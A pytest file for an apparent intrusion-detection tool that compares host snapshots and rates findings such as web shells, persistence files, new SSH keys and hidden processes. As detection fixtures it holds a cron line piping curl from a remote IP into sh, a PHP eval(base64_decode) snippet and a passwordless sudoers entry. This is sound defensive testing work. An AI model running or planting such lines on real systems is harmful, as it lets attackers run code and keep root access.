"""What is found, how bad it is, and what must never be called an intruder's."""

from __future__ import annotations

import base64
from pathlib import Path
from typing import Any

import pytest
from detected import POLICY, ROOT, SHELL, UP, account, file, found, only, snapshot

from ungcuu import detect
from ungcuu.detect import detectors
from ungcuu.detect.baseline import Snapshot
from ungcuu.detect.comparison import Comparison
from ungcuu.detect.findings import RULES, Severity, counts


def test_the_same_state_has_no_finding() -> None:
    """An alarm that cries on a clean host is switched off by the third week."""
    state = {
        "file": [file("/etc/nginx/nginx.conf", "system"), file(f"{ROOT}/index.php")],
        "account": [{"name": "root", "uid": "0", "gid": "0", "shell": "/bin/bash", "password": "set", "digest": "x"}],
        "listener": [
            {"proto": "tcp", "address": "198.51.100.2", "port": 80, "exe": "/usr/sbin/nginx", "comm": "nginx"}
        ],
    }
    assert found(snapshot(**state), snapshot(**state)) == []


def test_code_that_was_added_changed_or_removed() -> None:
    """Outside of the writable folders the document root is exactly what it was."""
    before = snapshot(file=[file(f"{ROOT}/index.php"), file(f"{ROOT}/a.html"), file(f"{ROOT}/gone.css")])
    now = snapshot(
        file=[
            file(f"{ROOT}/index.php", sha256="b" * 64),
            file(f"{ROOT}/a.html", mode=0o666),
            file(f"{ROOT}/thu-vien.php", marks=["php"]),
        ]
    )
    seen = {(item.rule, item.severity.value) for item in found(before, now)}
    assert seen == {
        ("web.changed", "high"),
        ("web.rights", "medium"),
        ("web.code-added", "high"),
        ("web.removed", "medium"),
    }


@pytest.mark.parametrize(
    ("path", "rule", "severity"),
    [
        ("/etc/cron.d/x", "persistence.cron", "high"),
        ("/var/spool/cron/crontabs/portal", "persistence.cron", "high"),
        ("/etc/systemd/system/x.service", "persistence.unit", "high"),
        ("/etc/systemd/system/ssh.service.d/x.conf", "persistence.unit", "high"),
        ("/etc/ld.so.preload", "persistence.preload", "critical"),
        ("/etc/sudoers.d/x", "access.sudo", "critical"),
        ("/etc/pam.d/sshd2", "access.login", "high"),
        ("/etc/profile.d/x.sh", "persistence.startup", "high"),
        ("/etc/nginx/conf.d/x.conf", "config.web", "high"),
        ("/etc/other.conf", "config.changed", "medium"),
        ("/var/www/html/x.php", "web.code-added", "high"),
    ],
)
def test_where_a_new_file_stands_says_what_it_does(path: str, rule: str, severity: str) -> None:
    """Each place from which something starts has its own rule."""
    assert only(found(snapshot(), snapshot(file=[file(path, "system")]))) == (rule, severity, path)


def test_job_that_fetches_a_program_is_critical() -> None:
    """A job that pipes the network into a shell is nobody's maintenance."""
    path = "/etc/cron.d/x"
    job = b"* * * * * root curl -s http://198.51.100.9/x | sh\n"
    assert only(found(snapshot(), snapshot(file=[file(path, "system")]), **{path: job}))[1] == "critical"


def test_a_lookalike_program_is_found_even_when_dpkg_agrees() -> None:
    """An intruder who is root edits dpkg's sums, too; the baseline still knows."""
    package = [{"name": "sudo", "architecture": "amd64", "version": "1"}]
    before = snapshot(file=[file("/usr/bin/sudo", "program", package="sudo", package_ok=True)], package=package)
    doctored = file("/usr/bin/sudo", "program", package="sudo", package_ok=True, sha256="b" * 64)
    assert only(found(before, snapshot(file=[doctored], package=package)))[:2] == ("program.modified", "critical")
    updated = snapshot(file=[doctored], package=[{**package[0], "version": "2"}])
    assert only(found(before, updated))[:2] == ("package.changed", "low")


def test_setuid_where_there_was_none() -> None:
    """One bit on an old program is a way back to root."""
    before = snapshot(file=[file("/usr/bin/find", "program", package="findutils", package_ok=True)])
    now = snapshot(file=[file("/usr/bin/find", "program", package="findutils", package_ok=True, mode=0o4755)])
    item = found(before, now)[0]
    assert (item.rule, item.severity, item.action["do"]) == ("privilege.file", Severity.CRITICAL, "set_mode")
    assert item.action["mode"] == 0o644


def key(path: str, account: str, digest: str) -> dict[str, Any]:
    return {"set": "key", "path": path, "sha256": digest, "account": account, "number": 1, "fingerprint": "SHA256:x"}


def test_each_new_key_by_itself() -> None:
    """One line is taken, the others stay: locking the operator out would be the intruder's success."""
    path = "/home/ungcuu/.ssh/authorized_keys"
    sudo = [
        {
            "set": "sudo",
            "path": "/etc/sudoers.d/u",
            "sha256": "s",
            "number": 1,
            "text": "ungcuu ALL=(root) NOPASSWD: ALL",
        }
    ]
    before = snapshot(line=[key(path, "ungcuu", "1" * 64), *sudo])
    now = snapshot(line=[key(path, "ungcuu", "1" * 64), key(path, "ungcuu", "2" * 64), *sudo])
    item = found(before, now)[0]
    assert (item.rule, item.severity.value) == ("access.key", "critical")
    assert item.action == {"do": "remove_lines", "path": path, "lines": ["2" * 64]}
    other = snapshot(line=[*before.of("line").values(), key("/home/a/.ssh/authorized_keys", "a", "2" * 64)])
    assert found(before, other)[0].severity is Severity.HIGH


def test_accounts() -> None:
    """Who may log in, and as whom."""
    before = snapshot(
        account=[account("root", uid="0"), account("a"), account("b")], group=[{"name": "sudo", "members": []}]
    )
    now = snapshot(
        account=[
            account("root", uid="0"),
            account("a", home="/tmp"),
            account("toor", uid="0"),
            account("new"),
            account("was", password="locked", digest="") | {"shell": "/usr/sbin/nologin"},
        ],
        group=[{"name": "sudo", "members": ["a"]}],
    )
    seen = {(item.rule, item.severity.value, item.path) for item in found(before, now)}
    assert seen == {
        ("account.root", "critical", "toor"),
        ("account.added", "high", "new"),
        ("account.locked", "low", "was"),
        ("account.changed", "high", "a"),
        ("account.removed", "medium", "b"),
        ("account.member", "critical", "sudo: a"),
    }


def test_masks() -> None:
    """The mask that eradication leaves is no finding; a guard that was masked is."""
    mask = file("/etc/systemd/system/helper.path", "system", type="link", target="/dev/null", sha256="")
    assert found(snapshot(), snapshot(file=[mask])) == []
    guard = file("/etc/systemd/system/auditd.service", "system", type="link", target="/dev/null", sha256="")
    units = [
        {
            "name": "auditd.service",
            "state": "enabled",
            "active": "active",
            "path": "/usr/lib/systemd/system/auditd.service",
        }
    ]
    masked = [units[0] | {"state": "masked", "active": "inactive"}]
    seen = found(snapshot(unit=units), snapshot(unit=masked, file=[guard]))
    assert {item.severity for item in seen} == {Severity.HIGH}


def test_listeners_and_processes() -> None:
    """A door that was closed, and a program that hides."""
    door = {
        "proto": "tcp",
        "address": "198.51.100.2",
        "port": 4444,
        "exe": "/usr/bin/python3.11",
        "comm": "python3",
        "uid": 0,
    }
    ghost = {
        "pid": 7,
        "start": "1",
        "exe": "/tmp/.x (deleted)",
        "comm": ".x",
        "uid": 0,
        "deleted": True,
        "replaced": False,
    }
    worker = {"pid": 8, "start": "1", "exe": "", "comm": "php-fpm8.2", "uid": 999, "deleted": False, "website": True}
    shell = {
        "pid": 9,
        "start": "1",
        "exe": "/usr/bin/dash",
        "comm": "sh",
        "uid": 999,
        "deleted": False,
        "website": True,
    }
    seen = found(snapshot(), snapshot(listener=[door], process=[ghost, worker, shell]))
    assert {(item.rule, item.severity.value) for item in seen} == {
        ("listener.added", "high"),
        ("process.hidden", "critical"),
        ("process.website", "high"),
    }


def test_code_in_an_applications_settings_is_no_mere_change() -> None:
    """Debian keeps MediaWiki's settings below /etc: what is put in there runs in every page."""
    path = "/etc/mediawiki/LocalSettings.php"
    before, now = snapshot(file=[file(path, "system")]), snapshot(file=[file(path, "system", sha256="b" * 64)])
    assert detectors.interesting(Comparison(POLICY, before, now)) == [path]
    for text, severity in (("<?php eval(base64_decode('x'));", "high"), ("<?php $wgSitename = 'x';", "medium")):
        contents = {path: base64.b64encode(text.encode()).decode()}
        seen = detectors.detect(Comparison(POLICY, before, now, contents))
        assert [(item.rule, item.severity.value) for item in seen] == [("config.changed", severity)]


def test_an_incomplete_reading_is_a_finding() -> None:
    """Silence is not innocence."""
    now = snapshot()
    now.problems.append("limit: web")
    assert only(found(snapshot(), now))[:2] == ("reading.incomplete", "high")


def test_without_a_baseline_the_plain_signs_are_still_found() -> None:
    """The first scan of a host that nobody prepared must still find the web shell."""
    path = f"{UP}/a.php"
    now = snapshot(
        file=[file(path, "upload", marks=["php"]), file("/etc/x", "system")], account=[account("toor", uid="0")]
    )
    assert [item.rule for item in found(None, now, **{path: SHELL})] == [
        "account.root",
        "upload.code",
        "baseline.missing",
    ]


def test_findings_are_stable_bounded_and_neutral() -> None:
    """The id names the same thing in every scan; what a host chose can't reach a screen as it came."""
    path = f"{UP}/a.php"
    now = snapshot(file=[file(path, "upload", marks=["php"])])
    first, second = (found(snapshot(), now, **{path: b"<?php \x1b]0;x\x07" + b"A" * 9000})[0] for _ in range(2))
    assert first.id == second.id and len(first.id) == 16
    assert "\x1b" not in str(first.document()) and len(first.seen) < 500
    assert counts([first])["critical"] == 1


def test_evidence_is_cleaned_too() -> None:
    """A process chooses its own arguments, a link its own target."""
    ghost = {
        "pid": 7,
        "start": "1",
        "exe": "/tmp/\x1b[2J",
        "comm": "x",
        "uid": 0,
        "deleted": False,
        "argv": "\u202e" * 9999,
    }
    item = found(snapshot(), snapshot(process=[ghost]))[0]
    text = repr(item.evidence) + item.seen + item.path
    assert "\x1b" not in text and "\u202e" not in text and len(text) < 6000


def test_any_records_can_be_compared() -> None:
    """Whatever a lying host makes up, the comparison ends, its findings can be written, and orders come of them."""
    import json
    import random

    from ungcuu.detect.baseline import parse
    from ungcuu.detect.records import SCHEMA
    from ungcuu.recover import quarantine

    chance = random.Random(7)  # noqa: S311
    words = ["", "/", "..", "-1", "é", "%s{{ x }}", "::1", "0", "root", "a" * 64, "x.service", "links=9 hidden=1"]
    words += ["file", "link", "dir", "key", "cron", "sudo", "enabled", "active", "content", "administrator"]
    words += ["web", "upload", "system", "home", "program", "privileged", "temporary"]
    words += [UP + "/a.php", ROOT + "/x.php", "/etc/cron.d/x", "/etc/systemd/system/x.service", "/dev/null"]
    words += ["/usr/bin/x", "/tmp/x (deleted)", "/home/a/.bashrc"]
    makers = {
        str: lambda: chance.choice(words),
        int: lambda: chance.choice([0, -1, 7, 0o4755, 1 << 62]),
        bool: lambda: chance.random() < 0.5,
        float: lambda: 1.5,
        list: lambda: chance.sample(words, 3),
        dict: lambda: {chance.choice(words): "00"},
    }

    def made() -> Snapshot:
        rows = []
        for _ in range(400):
            kind = chance.choice([name for name in SCHEMA if name != "end"])
            fields = {name: makers[type_]() for name, type_ in SCHEMA[kind].items() if chance.random() < 0.9}
            rows.append(json.dumps(fields | {"k": kind}).encode())
        return parse([*rows, b'{"k":"end","seconds":1}'])

    for _ in range(60):
        before, now = made(), made()
        seen = found(chance.choice([None, before]), now, **{UP + "/a.php": SHELL})
        rows = [json.loads(json.dumps(item.document())) for item in seen]
        orders = quarantine.plan({"findings": rows}, quarantine.Choice(kill=True), before, "20260101T000000Z").orders
        json.dumps([order.wire() for order in orders])


def test_every_rule_in_use_is_in_the_catalogue() -> None:
    """A rule without a text would be a finding that nobody understands."""
    import re

    sources = [file.read_text("utf-8") for file in Path(detect.__file__).parent.glob("*.py")]
    used = {rule for text in sources for rule in re.findall(r'"([a-z]+\.[a-z-]+)"', text)}
    files = {word for word in used if word.endswith((".json", ".list", ".timer"))}
    assert used - files - {"ungcuu.remote"} <= set(RULES)
    assert {"upload.code", "persistence.unit"} <= used
